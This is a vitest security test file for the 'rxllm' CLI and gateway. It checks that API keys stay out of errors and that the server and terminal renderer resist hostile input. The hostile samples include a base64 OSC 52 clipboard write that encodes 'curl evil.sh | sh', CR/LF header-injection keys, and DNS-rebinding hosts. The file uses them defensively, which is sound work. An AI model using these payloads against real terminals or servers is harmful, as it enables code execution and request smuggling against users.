/**
 * Errors and logs never carry the API key: failing calls (HTTP 401, HTTP 500, an error event
 * mid-stream, a dropped connection) made with a known fake key, through every provider's SDK,
 * and through the `rxllm` CLI. Each error is searched as a user would print or log it:
 * `String(err)`, `err.message`, `JSON.stringify(err)`, the same for every error of its `cause`
 * chain, and `util.inspect(err)` (what `console.error(err)` prints, causes included); the CLI's
 * stderr and stdout.
 */
import { spawn } from 'node:child_process';
import { fileURLToPath } from 'node:url';
import { inspect } from 'node:util';
import { createServer } from 'node:http';
import { type AddressInfo, connect } from 'node:net';
import fc from 'fast-check';
import OpenAI from 'openai';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { CliError } from '../../src/cli/cli-error.ts';
import { LiveRenderer } from '../../src/cli/render.ts';
import { styleFor } from '../../src/cli/style.ts';
import { terminalText } from '../../src/cli/terminal-text.ts';
import { parseServeArgs } from '../../src/cli/serve/serve-args.ts';
import { startServe, type ServeHandle, type ServeOptions } from '../../src/cli/serve/server.ts';
import { RequestGuard } from '../../src/gateway/request-guard.ts';
import { nodeChatCompletionsHandler } from '../../src/gateway/node-handler.ts';
import { chatCompletionsHandler } from '../../src/gateway/web-handler.ts';
import { EMPTY } from 'rxjs';
import { openaiAdapter } from '../../src/providers/openai/adapter.ts';
import { anthropicMessageFromEvents } from '../support/anthropic-nonstream.ts';
import type { Fault, ReplayServer } from '../../src/replay/server.ts';
import { startReplayServer } from '../../src/replay/server.ts';
import { FAKE_KEY, faultCaseOf, providerNamed, providers, serve, streamReply } from '../support/conformance.ts';
import { run } from '../support/runs.ts';
import { loadCase } from '../support/fixtures.ts';

/** The failing calls, as replay faults (mid-stream ones after 3 events). */
const failures: readonly { readonly failure: string; readonly fault: Fault }[] = [
  { failure: 'HTTP 401', fault: { kind: 'http', status: 401 } },
  { failure: 'HTTP 500', fault: { kind: 'http', status: 500 } },
  { failure: 'error event', fault: { kind: 'error-event', afterEvents: 3 } },
  { failure: 'dropped connection', fault: { kind: 'drop', afterEvents: 3 } },
];

/** `value` as JSON, cycles cut (`[Circular]`), for errors whose fields point back at themselves. */
function json(value: unknown): string {
  const seen = new WeakSet<object>();
  return (
    JSON.stringify(value, (_key, v: unknown) => {
      if (typeof v === 'bigint') return String(v);
      if (typeof v !== 'object' || v === null) return v;
      if (seen.has(v)) return '[Circular]';
      seen.add(v);
      return v;
    }) ?? ''
  );
}

/** Every text a user may print or log of `error`: the error and each error of its cause chain. */
function printed(error: unknown): string[] {
  const out = [inspect(error, { depth: 10 })];
  for (let e = error, depth = 0; e !== undefined && e !== null && depth < 10; e = (e as { cause?: unknown }).cause, depth++) {
    out.push(String(e), json(e));
    const message = (e as { message?: unknown }).message;
    if (typeof message === 'string') out.push(message);
  }
  return out;
}

const leaks = (texts: readonly string[]) => texts.filter((t) => t.includes(FAKE_KEY));

it('the search finds a key where there is one (in a cause, in a field)', () => {
  expect(leaks(printed(new Error('outer', { cause: new Error(`inner ${FAKE_KEY}`) })))).not.toEqual([]);
  expect(leaks(printed(Object.assign(new Error('x'), { request: { headers: { authorization: `Bearer ${FAKE_KEY}` } } })))).not.toEqual([]);
});

describe.concurrent.each(providers)('$name', (entry) => {
  it.each(failures)('$failure: no key in the error, its causes, or its inspection', { concurrent: false }, async ({ fault }) => {
    const { server, connection, close } = await serve(entry, FAKE_KEY);
    try {
      const c = faultCaseOf(entry);
      server.reply(streamReply(c, { fault }));
      const { error } = await run(connection.source(c));
      expect(error).toBeInstanceOf(Error);
      expect(leaks(printed(error))).toEqual([]);
      // the key did go out with the request (Bedrock signs with it: the secret itself is never sent)
      const sent = JSON.stringify(server.requests.at(-1)!.headers);
      expect(sent).toContain(entry.sentCredential(FAKE_KEY));
    } finally {
      await close();
    }
  });
});

describe('the rxllm CLI', () => {
  const root = fileURLToPath(new URL('../..', import.meta.url));
  const servers: ReplayServer[] = [];
  afterAll(() => Promise.all(servers.map((s) => s.close())));

  /** Runs `node src/cli/main.ts chat …` with only `env` (and PATH, HOME) set; resolves with its exit code and output. */
  function cli(args: readonly string[], env: Record<string, string>): Promise<{ code: number | null; stdout: string; stderr: string }> {
    return new Promise((resolve, reject) => {
      const child = spawn(process.execPath, ['src/cli/main.ts', 'chat', ...args], {
        cwd: root,
        env: { PATH: process.env.PATH, HOME: process.env.HOME, ...env },
        stdio: ['ignore', 'pipe', 'pipe'],
      });
      let stdout = '';
      let stderr = '';
      child.stdout.setEncoding('utf8').on('data', (s: string) => (stdout += s));
      child.stderr.setEncoding('utf8').on('data', (s: string) => (stderr += s));
      child.on('error', reject);
      child.on('close', (code) => resolve({ code, stdout, stderr }));
    });
  }

  /** How the CLI reaches each provider's replay server with the fake key (Gemini has no endpoint variable: not reachable). */
  const setups = [
    { name: 'openai', http2: false, args: ['-p', 'openai'], env: (url: string) => ({ OPENAI_API_KEY: FAKE_KEY, OPENAI_BASE_URL: `${url}/v1` }) },
    { name: 'anthropic', http2: false, args: ['-p', 'anthropic'], env: (url: string) => ({ ANTHROPIC_API_KEY: FAKE_KEY, ANTHROPIC_BASE_URL: url }) },
    {
      name: 'bedrock',
      // the CLI's Bedrock client speaks HTTP/2 to a real endpoint
      http2: true,
      args: ['-p', 'bedrock', '-m', loadCase('bedrock/text').model],
      env: (url: string) => ({ AWS_REGION: 'us-east-1', AWS_ACCESS_KEY_ID: 'AKIDTEST', AWS_SECRET_ACCESS_KEY: FAKE_KEY, AWS_ENDPOINT_URL_BEDROCK_RUNTIME: url }),
    },
  ] as const;

  it.each(setups.flatMap((setup) => failures.map((f) => ({ ...setup, ...f }))))(
    '$name, $failure: stderr and stdout name the failure, never the key',
    { concurrent: true },
    async ({ name, http2, args, env, fault }) => {
      const entry = providerNamed(name);
      const server = await startReplayServer(streamReply(faultCaseOf(entry), { fault }), { http2, record: true });
      servers.push(server);
      const result = await cli([...args, 'hi'], env(server.url));
      expect(result.code).toBe(1);
      expect(result.stderr).toMatch(/error/i);
      // the CLI keeps the SDKs' retries: a 500 is sent up to 3 times
      expect(server.requests.length).toBeGreaterThanOrEqual(1);
      expect(result.stderr).not.toContain(FAKE_KEY);
      expect(result.stdout).not.toContain(FAKE_KEY);
    },
  );
});

/*
 * rxllm serve as an attacker (or a buggy client) meets it: nothing a client sends can crash it,
 * reach a header unencoded, or spend the operator's key from another site or host.
 */
describe('rxllm serve: a client can never take the server down or use the operator\'s key from elsewhere', () => {
  const replayDir = fileURLToPath(new URL('../../replay', import.meta.url));
  const handles: ServeHandle[] = [];
  let upstream: ReplayServer;
  const text = loadCase('anthropic/text');
  beforeAll(async () => {
    upstream = await startReplayServer(undefined, { record: true });
  });
  afterAll(async () => {
    await Promise.all(handles.map((h) => h.close()));
    await upstream.close();
  });
  const start = async (options: Partial<ServeOptions> = {}) => {
    const handle = await startServe({ provider: 'anthropic', model: 'claude-x', port: 0, env: {}, upstreamURL: upstream.url, replayDir, ...options });
    handles.push(handle);
    return handle;
  };
  const post = (handle: ServeHandle, body: string, headers: Record<string, string> = {}) =>
    fetch(`${handle.baseURL}/chat/completions`, { method: 'POST', headers: { 'content-type': 'application/json', ...headers }, body });
  /** An OpenAI-shaped error body. */
  const errorShape = { error: { message: expect.any(String), type: expect.any(String), param: expect.toBeOneOf([null, expect.any(String)]), code: expect.toBeOneOf([null, expect.any(String)]) } };

  it('fuzzed body keys and values (non-ASCII, CR/LF, NUL, huge): every answer a complete one or an OpenAI-shaped error; headers stay printable ASCII; the process lives', async () => {
    const handle = await start();
    upstream.reply((request) => (request.body?.stream === true ? { format: 'anthropic', events: text.events } : { kind: 'json', body: anthropicMessageFromEvents(text.events) }));
    const key = fc.oneof(fc.string({ unit: 'grapheme', maxLength: 12 }), fc.constantFrom('名', 'a\r\nset-cookie: x=1', 'x\u0000y', 'é'.repeat(600), '%0d%0a', 'seed'));
    const value = fc.oneof(fc.jsonValue({ maxDepth: 2 }), fc.string({ unit: 'binary', maxLength: 40 }));
    await fc.assert(
      fc.asyncProperty(fc.dictionary(key, value, { maxKeys: 4 }), fc.boolean(), async (extras, stream) => {
        const body = JSON.stringify({ ...extras, model: 'claude-x', messages: [{ role: 'user', content: 'Hello' }], stream });
        const response = await post(handle, body);
        for (const [name, v] of response.headers) expect(/^[\x20-\x7e]*$/.test(v), `${name}: ${v}`).toBe(true);
        const got = await response.text();
        if (response.status === 200 && stream) expect(got.endsWith('data: [DONE]\n\n')).toBe(true);
        else if (response.status === 200) expect(JSON.parse(got)).toMatchObject({ object: 'chat.completion' });
        else expect(JSON.parse(got)).toEqual(errorShape);
      }),
      { numRuns: 25 },
    );
    // the key that crashed it: a non-ASCII and a CR/LF body key, streaming and not
    for (const stream of [false, true]) {
      const response = await post(handle, JSON.stringify({ model: 'claude-x', messages: [{ role: 'user', content: 'Hello' }], stream, 名: 1, 'a\r\nb': 2 }));
      expect(response.status).toBe(200);
      expect(response.headers.get('x-rxllm-ignored-params')).toBe('a%0D%0Ab, %E5%90%8D');
      await response.text();
    }
    expect((await fetch(`${handle.baseURL}/models`)).status).toBe(200);
  });

  it('fuzzed request header values and paths never crash it', async () => {
    const handle = await start();
    upstream.reply({ format: 'anthropic', events: text.events });
    const { port } = new URL(handle.baseURL);
    await fc.assert(
      fc.asyncProperty(fc.string({ unit: 'binary', maxLength: 60 }), fc.string({ maxLength: 30 }), async (headerText, path) => {
        const status = await rawRequest(Number(port), `POST /v1/chat/completions${encodeURI(path).replace(/[#?]/g, '')} HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nX-Junk: ${headerText.replace(/[\r\n]/g, ' ')}\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}`);
        expect(status === 0 || (status >= 200 && status < 600)).toBe(true);
      }),
      { numRuns: 40 },
    );
    expect((await fetch(`${handle.baseURL}/models`)).status).toBe(200);
  });

  it('a body that is not application/json gets 415 and never reaches the provider (a web page can POST text/plain without a preflight)', async () => {
    const handle = await start();
    const before = upstream.received();
    const body = JSON.stringify({ model: 'claude-x', messages: [{ role: 'user', content: 'Hello' }] });
    for (const type of ['text/plain', 'text/plain;charset=UTF-8', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', 'application/json; charset=latin1']) {
      const response = await post(handle, body, { 'content-type': type });
      expect([response.status, await response.json()]).toEqual([415, { error: { message: expect.any(String), type: 'invalid_request_error', param: null, code: 'unsupported_media_type' } }]);
    }
    const none = await fetch(`${handle.baseURL}/chat/completions`, { method: 'POST', body: new Blob([body]) });
    expect(none.status).toBe(415);
    expect(upstream.received()).toBe(before);
  });

  it('a foreign Host (DNS rebinding) gets 403; loopback names, the listening address and --allowed-hosts pass', async () => {
    const handle = await start({ allowedHosts: ['gateway.internal'] });
    upstream.reply({ format: 'anthropic', events: text.events });
    const { port } = new URL(handle.baseURL);
    const before = upstream.received();
    const ask = (host: string) => rawRequest(Number(port), `GET /v1/models HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`);
    for (const host of ['evil.example', `evil.example:${port}`, 'localhost.evil.example', '192.168.1.7', '']) expect(await ask(host), host).toBe(403);
    for (const host of ['localhost', `localhost:${port}`, `127.0.0.1:${port}`, 'app.localhost', 'gateway.internal', `gateway.internal:${port}`]) expect(await ask(host), host).toBe(200);
    const chat = await rawRequest(Number(port), `POST /v1/chat/completions HTTP/1.1\r\nHost: evil.example\r\nContent-Type: application/json\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}`);
    expect(chat).toBe(403);
    expect(upstream.received()).toBe(before);
  });

  it('a foreign Origin gets 403 without --cors (even as application/json); the allowed origin gets through with CORS headers', async () => {
    const closed = await start();
    const before = upstream.received();
    const body = JSON.stringify({ model: 'claude-x', messages: [{ role: 'user', content: 'Hello' }] });
    const foreign = await post(closed, body, { origin: 'http://evil.example' });
    expect([foreign.status, ((await foreign.json()) as { error: { code: string } }).error.code]).toEqual([403, 'origin_not_allowed']);
    expect(upstream.received()).toBe(before);
    const open = await start({ cors: 'http://localhost:4200' });
    upstream.reply((request) => (request.body?.stream === true ? { format: 'anthropic', events: text.events } : { kind: 'json', body: anthropicMessageFromEvents(text.events) }));
    expect((await post(open, body, { origin: 'http://evil.example' })).status).toBe(403);
    const allowed = await post(open, body, { origin: 'http://localhost:4200' });
    expect(allowed.status).toBe(200);
    expect(allowed.headers.get('access-control-allow-origin')).toBe('http://localhost:4200');
    await allowed.text();
  });

  it('a CORS preflight reflects the requested headers (the SDKs\' x-stainless-*) within limits, and refuses a foreign origin', async () => {
    const handle = await start({ cors: 'http://localhost:4200' });
    const requested = 'authorization, content-type, x-stainless-arch, x-stainless-lang, x-stainless-os, x-stainless-package-version, x-stainless-retry-count, x-stainless-runtime, x-stainless-runtime-version, x-stainless-timeout';
    const preflight = (origin: string, headers: string) =>
      fetch(`${handle.baseURL}/chat/completions`, { method: 'OPTIONS', headers: { origin, 'access-control-request-method': 'POST', 'access-control-request-headers': headers } });
    const ok = await preflight('http://localhost:4200', requested);
    expect(ok.status).toBe(204);
    const allowed = ok.headers.get('access-control-allow-headers')!.split(', ');
    for (const h of requested.split(', ')) expect(allowed).toContain(h);
    const hostile = await preflight('http://localhost:4200', `x-a\u00e9, ${'x-h,'.repeat(500)}bad header, x-ok`);
    expect(hostile.status).toBe(204);
    const reflected = hostile.headers.get('access-control-allow-headers')!;
    expect(reflected.length).toBeLessThan(4096);
    expect(reflected).not.toMatch(/bad header|\u00e9/);
    expect((await preflight('http://evil.example', requested)).status).toBe(403);
  });

  it('--api-key: Bearer auth compared in constant time; no or a wrong key is an OpenAI-shaped 401 (the SDK throws AuthenticationError) and never reaches the provider', async () => {
    const handle = await start({ apiKey: 'serve-key-123' });
    upstream.reply({ kind: 'json', body: anthropicMessageFromEvents(text.events) });
    const before = upstream.received();
    const messages = [{ role: 'user' as const, content: 'Hello' }];
    for (const apiKey of ['wrong', 'serve-key-12', 'serve-key-1234']) {
      const client = new OpenAI({ apiKey, baseURL: handle.baseURL, maxRetries: 0 });
      await expect(client.chat.completions.create({ model: 'claude-x', messages })).rejects.toBeInstanceOf(OpenAI.AuthenticationError);
      await expect(client.models.list()).rejects.toMatchObject({ status: 401, code: 'invalid_api_key', type: 'invalid_request_error' });
    }
    const none = await fetch(`${handle.baseURL}/models`);
    expect([none.status, none.headers.get('www-authenticate'), await none.json()]).toEqual([401, 'Bearer', { error: { message: expect.stringMatching(/didn't provide an API key/), type: 'invalid_request_error', param: null, code: 'invalid_api_key' } }]);
    expect(upstream.received()).toBe(before);
    const client = new OpenAI({ apiKey: 'serve-key-123', baseURL: handle.baseURL, maxRetries: 0 });
    const completion = await client.chat.completions.create({ model: 'claude-x', messages });
    expect(completion.choices[0]!.message.content).toBe(text.expect.text);
    // keys of any length compare (digests of equal length): no throw, no early exit on length
    const guard = new RequestGuard({ apiKey: 'k' });
    for (const given of ['', 'k'.repeat(10_000), '名', 'K']) {
      expect(guard.check({ method: 'GET', header: (n) => ({ host: 'localhost', authorization: `Bearer ${given}` })[n] })?.status).toBe(401);
    }
  });

  it('listening beyond loopback without a key is refused at startup, saying how to set one; --unsafe-no-api-key opts out', () => {
    expect(() => parseServeArgs(['--host', '0.0.0.0'], {})).toThrow(/--api-key KEY or RXLLM_API_KEY=KEY.*--unsafe-no-api-key/);
    expect(() => parseServeArgs(['--host', '192.168.1.7', '--port', '0'], {})).toThrow(CliError);
    expect(parseServeArgs(['--host', '0.0.0.0', '--api-key', 'k'], {})).toMatchObject({ options: { host: '0.0.0.0', apiKey: 'k' } });
    expect(parseServeArgs(['--host', '0.0.0.0'], { RXLLM_API_KEY: 'k2' })).toMatchObject({ options: { apiKey: 'k2' } });
    expect(parseServeArgs(['--host', '0.0.0.0', '--unsafe-no-api-key'], {})).toMatchObject({ options: { host: '0.0.0.0', apiKey: undefined } });
    expect(parseServeArgs(['--host', '127.0.0.2'], {})).toMatchObject({ options: { apiKey: undefined } });
  });

  it('bad flags fail at startup with a message: --idle-timeout 0, --max-body 0.5, negative or non-numeric values', () => {
    const bad: [string[], RegExp][] = [
      [['--idle-timeout', '0'], /--idle-timeout takes a duration above 0/],
      [['--idle-timeout', '0ms'], /--idle-timeout/],
      [['--idle-timeout', '-5s'], /--idle-timeout/],
      [['--idle-timeout', 'soon'], /--idle-timeout/],
      [['--idle-timeout', '30d'], /--idle-timeout/],
      [['--idle-timeout', '999999999999'], /at most 24 days/],
      [['--max-body', '0.5'], /--max-body takes a size/],
      [['--max-body', '0'], /--max-body/],
      [['--max-body', '-1'], /--max-body/],
      [['--max-body', 'big'], /--max-body/],
      [['--max-body', '2gb'], /--max-body/],
      [['--port', '-1'], /--port/],
      [['--port', 'http'], /--port/],
      [['--grace', '-1'], /--grace/],
      [['--speed', '-2'], /--speed/],
      [['--cors', 'http://x.example/'], /--cors takes origins/],
      [['--fault', 'drop=-1'], /--fault/],
      [['--fault', 'status=200'], /status takes an HTTP error status/],
      [['--fault', 'drop=1,stall=2'], /one fault at a time/],
    ];
    for (const [args, message] of bad) expect(() => parseServeArgs(args, {}), args.join(' ')).toThrow(message);
    expect(parseServeArgs(['--grace', '0', '--max-body', '1.5kb', '--idle-timeout', '500ms'], {})).toMatchObject({ options: { graceMs: 0, maxBodyBytes: 1536, idleTimeoutMs: 500 } });
  });

  it('a body nested deeper than the limit gets 400 too_deep, not a 502 (and nothing goes upstream)', async () => {
    const handle = await start();
    const before = upstream.received();
    const deep = `{"model":"claude-x","messages":[{"role":"user","content":"hi"}],"metadata":${'['.repeat(100_000)}${']'.repeat(100_000)}}`;
    const response = await post(handle, deep);
    expect([response.status, ((await response.json()) as { error: { code: string } }).error.code]).toEqual([400, 'too_deep']);
    expect(upstream.received()).toBe(before);
  });

  it('the replay server keeps nothing per request by default (rxllm serve --provider replay runs for days)', async () => {
    const server = await startReplayServer({ kind: 'json', body: { ok: true } });
    try {
      const big = 'x'.repeat(500 * 1024);
      for (let i = 0; i < 20; i++) await (await fetch(`${server.url}/v1/x`, { method: 'POST', body: JSON.stringify({ big }) })).json();
      expect(server.received()).toBe(20);
      expect(server.requests).toEqual([]);
    } finally {
      await server.close();
    }
    const recording = await startReplayServer({ kind: 'json', body: { ok: true } }, { record: true });
    try {
      await (await fetch(`${recording.url}/v1/x`, { method: 'POST', body: '{"a":1}' })).json();
      expect(recording.requests.map((r) => r.body)).toEqual([{ a: 1 }]);
    } finally {
      await recording.close();
    }
  });
});

/** Sends raw HTTP/1.1 bytes and resolves with the answer's status (0 when the server closed without one). */
function rawRequest(port: number, text: string): Promise<number> {
  return new Promise((resolve, reject) => {
    const socket = connect(port, '127.0.0.1');
    let got = '';
    socket.setEncoding('latin1');
    socket.on('data', (s: string) => (got += s));
    socket.on('error', () => resolve(Number(/^HTTP\/1\.1 (\d{3})/.exec(got)?.[1] ?? 0)));
    socket.on('close', () => resolve(Number(/^HTTP\/1\.1 (\d{3})/.exec(got)?.[1] ?? 0)));
    socket.setTimeout(5_000, () => reject(new Error('raw request timed out')));
    socket.end(Buffer.from(text, 'latin1'));
  });
}

describe('the terminal is not the model\'s to control: rxllm chat shows wire text, never obeys it', () => {
  const hostile = [
    '\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07', // OSC 52: write the clipboard
    '\x1b]0;pwned\x1b\\', // OSC 0: window title (ST-terminated)
    '\x1b[2J\x1b[H', // clear the screen, cursor home
    '\x1b[8m', // hidden text
    '\x1b[1A\x1b[2K', // move up, erase the line
    '\x9b31m', // 8-bit CSI
    '\x9d8;;http://evil.example\x9c', // 8-bit OSC 8 hyperlink
    '\x1bP1$qm\x1b\\', // DCS
    '\x1bc', // RIS: full reset
    '\u202eevil\u202c', // bidi override
    '\u2067isolate\u2069',
    'a\rb', // carriage return rewrites the line
    '\x00\x07\x08\x7f',
  ];
  /** What must never reach the terminal from the wire. */
  const FORBIDDEN = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/;

  it('terminalText removes escape sequences and controls, keeps printable text, newlines and tabs', () => {
    expect(terminalText('plain text, ünïcödé 名 🙂\n\tindented')).toBe('plain text, ünïcödé 名 🙂\n\tindented');
    expect(terminalText(`before${hostile.join('')}after`)).toBe('beforeevilisolateabafter');
    expect(terminalText('line\r\nnext')).toBe('line\nnext');
    // a sequence split across deltas cannot act: its introducer is gone, the rest is plain text
    expect(terminalText('x\x1b]52;c;')).toBe('x');
    expect(terminalText('Y3Vy\x07y')).toBe('Y3Vyy');
    fc.assert(
      fc.property(fc.string({ unit: fc.oneof(fc.constantFrom('\x1b', '\x9b', '\x9d', '\x07', '[', ']', ';', '\\', '\r', '\n', '\t', '\u202e', 'm', '2'), fc.string({ unit: 'binary', maxLength: 1 })) }), (s) => {
        const out = terminalText(s);
        expect(FORBIDDEN.test(out)).toBe(false);
        expect(terminalText(out)).toBe(out);
        // outside escape strings, newlines and tabs are kept
        // (C1 controls U+0080–U+009F are controls too: FORBIDDEN above, and removed here alike)
        if (!/[\x1b\x90-\x9f]/.test(s)) expect(out).toBe(s.replace(/[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/g, ''));
      }),
      { numRuns: 2000 },
    );
  });

  it('the live renderer cleans text, reasoning, tool names and arguments, and keeps its own styling', () => {
    let out = '';
    const renderer = new LiveRenderer({ write: (s: string) => (out += s) }, styleFor(true));
    renderer.next({ type: 'reasoning', text: `think${hostile[0]}` });
    renderer.next({ type: 'text', text: `Hello${hostile[2]}${hostile[3]} world` });
    renderer.next({ type: 'tool-call-start', index: 0, id: 'a', name: `get${hostile[1]}_weather` });
    renderer.next({ type: 'tool-call-delta', index: 0, argsText: `{"a":"${hostile[5]}x"}` });
    renderer.next({ type: 'tool-call-end', index: 0 });
    renderer.end();
    expect(out).toBe('\x1b[2m[reasoning]\nthink\x1b[0m\n\n\x1b[2m[answer]\x1b[0m\nHello world\n\x1b[36m[tool call] get_weather\x1b[0m {"a":"x"}\n');
  });

  it('end to end: a stream and an error body full of escape sequences print none of them', async () => {
    const events = [
      { data: { id: 'c', object: 'chat.completion.chunk', created: 1, model: 'm', choices: [{ index: 0, delta: { role: 'assistant', content: `Hi${hostile.join('')}!` }, finish_reason: null }] } },
      { data: { id: 'c', object: 'chat.completion.chunk', created: 1, model: 'm', choices: [{ index: 0, delta: {}, finish_reason: `stop${hostile[0]}` }] } },
      { data: '[DONE]' },
    ];
    const root = fileURLToPath(new URL('../..', import.meta.url));
    const chat = (url: string) =>
      new Promise<{ code: number | null; stdout: string; stderr: string }>((resolve, reject) => {
        const child = spawn(process.execPath, ['src/cli/main.ts', 'chat', '-p', 'openai', 'hi'], {
          cwd: root,
          env: { PATH: process.env.PATH, HOME: process.env.HOME, OPENAI_API_KEY: 'sk-x', OPENAI_BASE_URL: `${url}/v1` },
          stdio: ['ignore', 'pipe', 'pipe'],
        });
        let stdout = '';
        let stderr = '';
        child.stdout.setEncoding('utf8').on('data', (s: string) => (stdout += s));
        child.stderr.setEncoding('utf8').on('data', (s: string) => (stderr += s));
        child.on('error', reject);
        child.on('close', (code) => resolve({ code, stdout, stderr }));
      });
    const streaming = await startReplayServer({ format: 'openai-chat', events });
    const failing = await startReplayServer({ kind: 'json', status: 400, body: { error: { message: `bad${hostile.join('')}request`, type: 'invalid_request_error', code: `x${hostile[1]}` } } });
    try {
      const ok = await chat(streaming.url);
      expect(ok.stdout).toContain('Hievilisolateab!');
      expect(FORBIDDEN.test(ok.stdout.replaceAll('\n', ''))).toBe(false);
      expect(FORBIDDEN.test(ok.stderr.replace(/\n/g, ''))).toBe(false);
      const bad = await chat(failing.url);
      expect(bad.code).toBe(1);
      expect(bad.stderr).toContain('badevilisolateabrequest');
      expect(FORBIDDEN.test(bad.stderr.replace(/\n/g, ''))).toBe(false);
    } finally {
      await Promise.all([streaming.close(), failing.close()]);
    }
  });
});

describe('rxllm/gateway: the guard and the shutdown signal as library options of nodeChatCompletionsHandler', () => {
  it('guard refuses before reading the body; signal ends an open stream with server_shutting_down and [DONE], aborting the upstream', async () => {
    const upstream = await startReplayServer({ format: 'openai-chat', events: loadCase('openai-chat/text').events, fault: { kind: 'stall', afterEvents: 3 } });
    const { default: OpenAISdk } = await import('openai');
    const shutdown = new AbortController();
    const chat = nodeChatCompletionsHandler({
      adapter: openaiAdapter,
      client: new OpenAISdk({ apiKey: 'sk-x', baseURL: `${upstream.url}/v1`, maxRetries: 0 }),
      model: 'gpt-4o',
      guard: new RequestGuard({ apiKey: 'lib-key', cors: ['http://app.example'] }),
      signal: shutdown.signal,
    });
    const server = createServer(chat);
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/v1/chat/completions`;
    try {
      const body = JSON.stringify({ model: 'gpt-4o', messages: [{ role: 'user', content: 'Hi' }], stream: true });
      expect((await fetch(url, { method: 'POST', headers: { 'content-type': 'application/json' }, body })).status).toBe(401);
      expect((await fetch(url, { method: 'POST', headers: { 'content-type': 'text/plain', authorization: 'Bearer lib-key' }, body })).status).toBe(415);
      expect((await fetch(url, { method: 'POST', headers: { 'content-type': 'application/json', authorization: 'Bearer lib-key', origin: 'http://evil.example' }, body })).status).toBe(403);
      expect(upstream.received()).toBe(0);
      const open = await fetch(url, { method: 'POST', headers: { 'content-type': 'application/json', authorization: 'Bearer lib-key', origin: 'http://app.example' }, body });
      expect([open.status, open.headers.get('access-control-allow-origin')]).toEqual([200, 'http://app.example']);
      const text = open.text();
      await upstream.waitForRequests(1);
      await new Promise((r) => setTimeout(r, 50));
      shutdown.abort();
      const events = (await text).split('\n\n').filter((e) => e !== '');
      expect(events.at(-1)).toBe('data: [DONE]');
      expect(events.at(-2)).toContain('"code":"server_shutting_down"');
      await upstream.waitForSocketsClosed(1_000);
      await vi.waitFor(() => expect(upstream.streams()).toEqual({ ended: 0, aborted: 1 }), { timeout: 1_000 });
    } finally {
      server.closeAllConnections();
      await new Promise<void>((resolve) => server.close(() => resolve()));
      await upstream.close();
    }
  });
});

describe('rxllm/gateway: the guard on the Web handler', () => {
  it('refuses a foreign Host, a foreign Origin, a missing key and a text/plain body before any upstream call', async () => {
    let calls = 0;
    const chat = chatCompletionsHandler({
      adapter: { ...openaiAdapter, source: () => (calls++, EMPTY) } as typeof openaiAdapter,
      client: {} as never,
      model: 'gpt-4o',
      guard: new RequestGuard({ apiKey: 'web-key', cors: ['https://app.example'] }),
    });
    const body = JSON.stringify({ model: 'gpt-4o', messages: [{ role: 'user', content: 'Hi' }] });
    const ask = (url: string, headers: Record<string, string>) => chat(new Request(url, { method: 'POST', headers, body }));
    const json = { 'content-type': 'application/json', authorization: 'Bearer web-key' };
    expect((await ask('http://evil.example/v1/chat/completions', json)).status).toBe(403);
    expect((await ask('http://localhost/v1/chat/completions', { ...json, origin: 'https://other.example' })).status).toBe(403);
    expect((await ask('http://localhost/v1/chat/completions', { 'content-type': 'application/json' })).status).toBe(401);
    expect((await ask('http://localhost/v1/chat/completions', { ...json, 'content-type': 'text/plain' })).status).toBe(415);
    expect(calls).toBe(0);
    const ok = await ask('http://localhost/v1/chat/completions', { ...json, origin: 'https://app.example' });
    expect([ok.status, ok.headers.get('access-control-allow-origin')]).toEqual([200, 'https://app.example']);
    expect(calls).toBe(1);
  });
});
